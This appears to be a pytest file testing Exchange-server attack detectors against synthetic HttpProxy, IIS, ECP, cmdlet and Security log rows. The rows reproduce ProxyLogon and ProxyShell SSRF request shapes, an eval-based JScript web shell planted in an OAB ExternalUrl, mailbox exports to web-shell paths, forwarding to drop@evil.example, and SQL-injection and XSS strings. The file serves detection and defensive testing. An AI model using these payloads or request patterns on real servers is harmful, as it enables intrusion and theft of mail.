"""The built-in Exchange detectors on events shaped as the documented logs write them.

Rows follow the field lists of docs/research/exchange-log-formats.md (HttpProxy, IIS W3C, ECP
server log, MSExchange Management, Security) and the request shapes of the public ProxyLogon,
ProxyShell, ProxyNotShell and OWASSRF write-ups; each test also has benign rows that must not
match.
"""

from __future__ import annotations

import json
from collections import defaultdict

import pytest
from builders import store_with

from varde.detect.exchange import DETECTORS, run_detectors

ATTACKER = "203.0.113.7"
HTTPPROXY = ("Exchange HttpProxy", None)
IIS = ("IIS", None)


def proxy(ts: str, anchor: str, status: str, request_id: str, ip: str = ATTACKER, stem: str = "/ecp/y.js", **more):
    """An HttpProxy (Ecp) row."""
    return {"ts": ts, "provider": "Ecp", "DateTime": ts, "RequestId": request_id, "Protocol": "Ecp",
            "UrlStem": stem, "AnchorMailbox": anchor, "UserAgent": "ExchangeServicesClient/0.0.0.0",
            "ClientIpAddress": ip, "ServerHostName": "EXCH01", "HttpStatus": status, "Method": "POST",
            "RoutingHint": "X-BEResource-Cookie", "AuthenticatedUser": "", **more}


def iis(ts: str, method: str, stem: str, query: str, status: str, ip: str = ATTACKER, user: str = "-",
        agent: str = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)", port: str = "443"):
    """An IIS W3SVC1 line with Exchange's default fields."""
    date, time = ts[:10], ts[11:19]
    return {"ts": ts, "provider": "W3SVC1", "date": date, "time": time, "s-ip": "10.0.0.5", "cs-method": method,
            "cs-uri-stem": stem, "cs-uri-query": query, "s-port": port, "cs-username": user, "c-ip": ip,
            "cs(User-Agent)": agent, "cs(Referer)": "-", "sc-status": status, "sc-substatus": "0",
            "sc-win32-status": "0", "time-taken": "15"}


def found(tmp_path, events) -> dict[str, list[dict]]:
    """Rule uid -> attributes of each hit, after running every detector."""
    with store_with(tmp_path / "events.duckdb", events) as store:
        outcome = run_detectors(store)
        assert outcome.errors == []
        rows = store.query("SELECT rule_uid, attrs FROM detector_matches ORDER BY rule_uid, key")
    result: dict[str, list[dict]] = defaultdict(list)
    for uid, attrs in rows:
        result[uid].append(json.loads(attrs))
    return dict(result)


def test_every_rule_has_words_and_techniques():
    uids = [r.uid for d in DETECTORS for r in d.rules]
    assert len(uids) == len(set(uids))
    for detector in DETECTORS:
        for rule in detector.rules:
            assert rule.title and rule.description and rule.techniques, rule.uid
            assert rule.level in ("informational", "low", "medium", "high", "critical")
            assert all(c.startswith("CVE-") for c in rule.cves)


def test_proxylogon_chain_is_found_and_linked_to_iis(tmp_path):
    backend = "ServerInfo~a]@EXCH01.corp.local:444"
    ids = [f"5e58f5e5-0000-4000-8000-00000000000{n}" for n in range(5)]
    rows = [
        proxy("2021-03-03T06:49:42Z", f"{backend}/autodiscover/autodiscover.xml?#", "200", ids[0]),
        proxy("2021-03-03T06:49:45Z", f"{backend}/mapi/emsmdb?#", "200", ids[1]),
        proxy("2021-03-03T06:49:47Z", f"{backend}/ecp/proxyLogon.ecp?#", "241", ids[2]),
        proxy("2021-03-03T06:49:50Z", f"{backend}/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&"
              "msExchEcpCanary=x#", "200", ids[3]),
        proxy("2021-03-03T06:49:55Z", f"{backend}/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#",
              "200", ids[4]),
        proxy("2021-03-03T07:00:00Z", "SMTP:alice@corp.example", "200", "aaaaaaaa-0000-4000-8000-000000000000",
              ip="192.0.2.10", stem="/ecp/default.aspx"),
    ]
    lines = [iis("2021-03-03T06:49:42Z", "POST", "/ecp/y.js", f"&CorrelationID=<empty>;&cafeReqId={i};", "200")
             for i in ids]
    hits = found(tmp_path, {HTTPPROXY: rows, IIS: lines})
    chain = hits["varde.exchange.proxylogon.chain"]
    assert [h["step"] for h in chain if h["step"] != "iis"] == ["autodiscover", "emsmdb", "proxylogon", "oab-vdir",
                                                                 "vdir-reset"]
    assert sorted(h["request_id"] for h in chain if h["step"] == "iis") == ids
    assert all(h["source_ip"] == ATTACKER for h in chain)
    assert len(hits["varde.exchange.proxylogon.ssrf"]) >= 4  # every non-autodiscover SSRF row, and the IIS y.js
    assert len(hits["varde.exchange.proxylogon.vdir-reset"]) == 1
    assert all(h.get("source_ip") != "192.0.2.10" for rule in hits.values() for h in rule)


def test_ssrf_that_only_reached_autodiscover_is_a_failed_attempt(tmp_path):
    rows = [proxy("2021-03-03T06:00:00Z", "ServerInfo~a]@EXCH01:444/autodiscover/autodiscover.xml?#", "200", "r1"),
            proxy("2021-03-03T06:00:01Z", "ServerInfo~a]@EXCH01:444/mapi/emsmdb?#", "500", "r2")]
    hits = found(tmp_path, {HTTPPROXY: rows})
    assert len(hits["varde.exchange.proxylogon.ssrf-failed"]) == 2
    assert "varde.exchange.proxylogon.ssrf" not in hits
    assert "varde.exchange.proxylogon.chain" not in hits


def test_backend_cookie_form_of_the_ssrf(tmp_path):
    row = proxy("2021-03-03T06:00:00Z", "", "200", "r1", BackEndCookie="Server~EXCH01.corp.local/ecp/x.ecp?a=~1942062522")
    benign = proxy("2021-03-03T06:00:00Z", "", "200", "r2", ip="192.0.2.10",
                   BackEndCookie="Database~5a0f1e52-7e33-4a5b-9a2c-2d0c8f0d1a11~~2021-03-03T06:00:00")
    hits = found(tmp_path, {HTTPPROXY: [row, benign]})
    assert [h["request_id"] for h in hits["varde.exchange.proxylogon.ssrf"]] == ["r1"]


def test_vdir_script_in_cmdlet_and_ecp_logs(tmp_path):
    message = ('Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "http://ffff/#<script '
               'language="JScript" runat="server"> function Page_Load(){/**/eval(Request["code"],"unsafe");}</script>"'
               ' -Identity "OAB (Default Web Site)".')
    ecp = ("S:TIME=13;S:SID=1;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" "
           "runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>'.Identity='1a2b';S:REQID=")
    reset = "S:CMD=Reset-OABVirtualDirectory.Identity='1a2b'.FilePathName='\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx';S:RS=0"
    benign = "S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.corp.example/owa'.Identity='x';S:RS=0"
    hits = found(tmp_path, {
        ("MSExchange Management", 1): [{"ts": "2021-03-14T01:40:12Z", "Message": message}],
        ("Exchange ECP Server", None): [{"ts": "2021-03-03T06:50:00Z", "EventId": "ECP.Request", "EventData": e}
                                        for e in (ecp, reset, benign)],
    })
    assert len(hits["varde.exchange.proxylogon.vdir-url-script"]) == 2
    (reset_hit,) = hits["varde.exchange.proxylogon.vdir-reset"]
    assert reset_hit["webshell"] == "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\shell.aspx"


def test_oab_generator_write_outside_the_oab_folder(tmp_path):
    inside = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a.tmp"
    lines = [
        "Download failed and temporary file C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx needs to be removed",
        f"Download failed and temporary file {inside} needs to be removed",
    ]
    hits = found(tmp_path, {("Exchange OAB Generator", None): [{"ts": "2021-03-03T07:00:00Z", "Message": m}
                                                               for m in lines]})
    assert [h["webshell"] for h in hits["varde.exchange.proxylogon.oab-file-write"]] == [
        "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"]


def test_um_deserialisation_error(tmp_path):
    events = {("Application", 1040): [
        {"provider": "MSExchange Unified Messaging", "Data": "System.InvalidCastException: Unable to cast object"},
        {"provider": "MSExchange Unified Messaging", "Data": "The Unified Messaging service started."},
    ]}
    assert len(found(tmp_path, events)["varde.exchange.proxylogon.um-deserialisation"]) == 1


def test_proxyshell_and_proxynotshell_are_told_apart_by_authentication(tmp_path):
    query = "@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp"
    lines = [
        iis("2021-08-10T10:00:00Z", "GET", "/autodiscover/autodiscover.json", query, "200"),
        iis("2021-08-10T10:00:01Z", "GET", "/autodiscover/autodiscover.json", query, "401", ip="198.51.100.1"),
        iis("2022-09-30T10:00:00Z", "POST", "/autodiscover/autodiscover.json",
            "@evil.corp/owa/&Email=autodiscover/autodiscover.json%3F@evil.corp&Protocol=XYZ&FooProtocol=%50owershell",
            "200", user="CORP\\bob", ip="198.51.100.2"),
        iis("2021-08-10T10:00:02Z", "POST", "/autodiscover/autodiscover.xml", "-", "200", ip="192.0.2.10",
            user="CORP\\alice"),
    ]
    hits = found(tmp_path, {IIS: lines})
    assert [h["source_ip"] for h in hits["varde.exchange.proxyshell.ssrf"]] == [ATTACKER]
    assert [h["source_ip"] for h in hits["varde.exchange.proxyshell.ssrf-failed"]] == ["198.51.100.1"]
    assert [h["source_ip"] for h in hits["varde.exchange.proxynotshell.ssrf"]] == ["198.51.100.2"]


def test_owassrf_request_and_rps_client(tmp_path):
    lines = [
        iis("2022-12-01T10:00:00Z", "POST", "/owa/mastermailbox%40outlook.com/powershell", "-", "200",
            agent="Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+Chrome/105.0.0.0"),
        iis("2022-12-01T10:00:00Z", "POST", "/owa/admin@corp.example/powershell", "-", "200", ip="10.0.0.5",
            agent="Microsoft+WinRM+Client"),
    ]
    rps = [{"ClientInfo": "python-requests/2.28.1", "HttpStatus": "200", "ClientIpAddress": ATTACKER},
           {"ClientInfo": "Microsoft WinRM Client", "HttpStatus": "200", "ClientIpAddress": "10.0.0.5"},
           {"ClientInfo": "", "HttpStatus": "200", "ClientIpAddress": "10.0.0.6"}]
    hits = found(tmp_path, {IIS: lines, ("Exchange Rps Http", None): rps})
    assert [h["source_ip"] for h in hits["varde.exchange.owassrf.request"]] == [ATTACKER]
    assert [h["source_ip"] for h in hits["varde.exchange.owassrf.rps-client"]] == [ATTACKER]


def test_web_shell_pages_and_tunnels(tmp_path):
    lines = [
        iis("2021-03-03T08:00:00Z", "POST", "/owa/auth/help.aspx", "-", "200"),
        iis("2021-03-03T08:00:01Z", "GET", "/aspnet_client/system_web/x.aspx", "-", "200"),
        iis("2021-03-03T08:00:02Z", "GET", "/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2fmail", "200",
            ip="192.0.2.10"),
        iis("2021-03-03T08:00:03Z", "GET", "/owa/auth/nothere.aspx", "-", "404", ip="198.51.100.9"),
        iis("2019-09-03T10:13:36Z", "GET", "/erp/conn.aspx", "proxy&port=3389&ip=127.0.0.1", "200", ip="10.0.2.17"),
        iis("2019-09-03T10:13:44Z", "POST", "/erp/conn.aspx", "proxy", "200", ip="10.0.2.17"),
        iis("2019-09-03T10:13:45Z", "POST", "/erp/other.aspx", "proxy", "200", ip="10.0.2.99"),
    ]
    hits = found(tmp_path, {IIS: lines})
    assert [h["webshell"] for h in hits["varde.exchange.webshell.use"]] == ["/owa/auth/help.aspx"]
    assert [h["webshell"] for h in hits["varde.exchange.webshell.page"]] == ["/aspnet_client/system_web/x.aspx"]
    assert [h["status"] for h in hits["varde.exchange.webshell.tunnel"]] == ["200", "200"]
    assert {h["webshell"] for h in hits["varde.exchange.webshell.tunnel"]} == {"/erp/conn.aspx"}


def test_web_shell_written_by_the_web_server(tmp_path):
    sysmon = [{"Image": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
               "TargetFilename": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\"
                                 "ohyeah.aspx"},
              {"Image": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
               "TargetFilename": "C:\\inetpub\\temp\\IIS Temporary Compressed Files\\x.tmp"}]
    hits = found(tmp_path, {("Microsoft-Windows-Sysmon/Operational", 11): sysmon})
    assert [h["webshell"].rsplit("\\", 1)[1] for h in hits["varde.exchange.webshell.file-write"]] == ["ohyeah.aspx"]


def test_spraying_then_success(tmp_path):
    failures = [{"ts": f"2020-08-24T10:{n:02d}:00Z", "IpAddress": ATTACKER, "TargetUserName": f"user{n}",
                 "LogonType": "8"} for n in range(12)]
    success = [{"ts": "2020-08-24T11:00:00Z", "IpAddress": ATTACKER, "TargetUserName": "user3", "LogonType": "8"},
               {"ts": "2020-08-24T11:00:00Z", "IpAddress": "192.0.2.10", "TargetUserName": "alice", "LogonType": "8"}]
    few = [{"ts": "2020-08-24T10:00:00Z", "IpAddress": "192.0.2.11", "TargetUserName": "bob", "LogonType": "8"}]
    hits = found(tmp_path, {("Security", 4625): failures + few, ("Security", 4624): success})
    assert len(hits["varde.exchange.auth.spray"]) == 12
    assert [h["user"] for h in hits["varde.exchange.auth.spray-success"]] == ["user3"]
    assert "varde.exchange.auth.brute-force" not in hits


def test_mailbox_export_forwarding_and_download(tmp_path):
    def cmdlet(text: str) -> dict:
        return {"ts": "2021-03-04T01:00:00Z", "Message": text}

    management = [
        cmdlet('Cmdlet succeeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox "ceo@corp.example" '
               '-FilePath "\\\\EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.aspx".'),
        cmdlet('Cmdlet succeeded. Cmdlet New-MailboxExportRequest, parameters -Mailbox "legal" '
               '-FilePath "\\\\fileserver\\pst$\\legal.pst".'),
        cmdlet('Cmdlet succeeded. Cmdlet Remove-MailboxExportRequest, parameters -Identity "ceo\\MailboxExport" '
               '-Confirm "False".'),
        cmdlet('Cmdlet succeeded. Cmdlet Set-Mailbox, parameters -Identity "cfo" -ForwardingSmtpAddress '
               '"drop@evil.example".'),
        cmdlet('Cmdlet succeeded. Cmdlet Get-Mailbox, parameters -Identity "cfo".'),
    ]
    lines = [iis("2021-03-04T02:00:00Z", "GET", "/aspnet_client/backup.pst", "-", "200"),
             iis("2021-03-04T02:00:00Z", "GET", "/owa/auth/15.1.2176/themes/resources/logo.png", "-", "200")]
    hits = found(tmp_path, {("MSExchange Management", 1): management, IIS: lines})
    assert [(h["mailbox"], h["path"]) for h in hits["varde.exchange.mailbox.export"]] == [
        ("ceo@corp.example", "\\\\EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\ceo.aspx"),
        ("legal", "\\\\fileserver\\pst$\\legal.pst")]
    assert [h["mailbox"] for h in hits["varde.exchange.proxyshell.export-webshell"]] == ["ceo@corp.example"]
    assert len(hits["varde.exchange.mailbox.export-removed"]) == 1
    assert [h["path"] for h in hits["varde.exchange.mailbox.forwarding"]] == ["drop@evil.example"]
    assert [h["path"] for h in hits["varde.exchange.mailbox.download"]] == ["/aspnet_client/backup.pst"]


@pytest.mark.parametrize("hostile", ["'; DROP TABLE evidence; --", "%00\u202e<script>alert(1)</script>"])
def test_hostile_values_are_data(tmp_path, hostile):
    lines = [iis("2021-03-03T08:00:00Z", "POST", "/owa/auth/help.aspx", hostile, "200", agent=hostile)]
    hits = found(tmp_path, {IIS: lines})
    assert hits["varde.exchange.webshell.use"][0]["user_agent"] == hostile.replace("+", " ")


def test_proxylogon_seen_only_in_front_end_iis(tmp_path):
    lines = [
        iis("2021-03-03T06:49:42Z", "POST", "/ecp/y.js", "&CorrelationID=<empty>;&cafeReqId=5e58;", "200"),
        iis("2021-03-03T06:49:47Z", "POST", "/ecp/proxyLogon.ecp", "-", "241"),
        iis("2021-03-03T06:49:48Z", "POST", "/ecp/proxyLogon.ecp", "-", "241", ip="10.0.0.5", port="444"),
        iis("2021-03-03T06:49:49Z", "POST", "/ecp/x.js", "-", "500", ip="198.51.100.4"),
    ]
    hits = found(tmp_path, {IIS: lines})
    assert [h["url"] for h in hits["varde.exchange.proxylogon.ssrf"]] == [
        "/ecp/y.js?&CorrelationID=<empty>;&cafeReqId=5e58;", "/ecp/proxyLogon.ecp"]
    assert [h["source_ip"] for h in hits["varde.exchange.proxylogon.ssrf-failed"]] == ["198.51.100.4"]


def test_proxyshell_powershell_elevation(tmp_path):
    query = "@evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil.corp"
    hits = found(tmp_path, {IIS: [iis("2021-08-10T10:00:00Z", "POST", "/autodiscover/autodiscover.json", query, "200"),
                                  iis("2021-08-10T10:00:01Z", "POST", "/autodiscover/autodiscover.json", query, "401",
                                      ip="198.51.100.1")]})
    assert [h["source_ip"] for h in hits["varde.exchange.proxyshell.powershell"]] == [ATTACKER]
    assert [h["source_ip"] for h in hits["varde.exchange.proxyshell.ssrf"]] == [ATTACKER]


def test_ews_collection_after_spraying(tmp_path):
    failures = [{"ts": f"2020-08-24T10:{n:02d}:00Z", "IpAddress": ATTACKER, "TargetUserName": f"user{n}",
                 "LogonType": "8"} for n in range(12)]
    success = [{"ts": "2020-08-24T11:00:00Z", "IpAddress": ATTACKER, "TargetUserName": "CORP\\user3", "LogonType": "8"}]
    ews = [{"ts": "2020-08-24T11:05:00Z", "SoapAction": action, "HttpStatus": "200", "ClientIpAddress": ip,
            "AuthenticatedUser": user, "RequestId": "r", "UserAgent": "Microsoft Office/16.0"}
           for action, ip, user in (("FindItem", ATTACKER, "user3@corp.example"),
                                    ("GetItem", ATTACKER, "user3@corp.example"),
                                    ("GetFolder", ATTACKER, "user3@corp.example"),
                                    ("GetItem", "192.0.2.10", "user3@corp.example"),
                                    ("GetItem", ATTACKER, "user4@corp.example"))]
    hits = found(tmp_path, {("Security", 4625): failures, ("Security", 4624): success, ("Exchange EWS", None): ews})
    assert [h["step"] for h in hits["varde.exchange.auth.ews-collection"]] == ["FindItem", "GetItem"]
    assert {h["mailbox"] for h in hits["varde.exchange.auth.ews-collection"]} == {"user3@corp.example"}
